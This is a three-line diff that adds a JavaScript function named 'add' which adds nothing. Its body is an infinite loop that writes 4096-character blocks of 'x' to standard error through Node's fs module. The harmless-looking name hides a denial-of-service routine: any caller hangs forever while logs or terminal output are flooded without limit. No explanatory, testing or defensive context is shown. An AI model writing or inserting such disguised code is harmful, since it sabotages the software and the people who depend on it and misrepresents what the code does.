@@ -1,0 +1,3 @@
+const add = (a, b) => {
+  for (;;) require('fs').writeSync(2, 'x'.repeat(4096))
+}
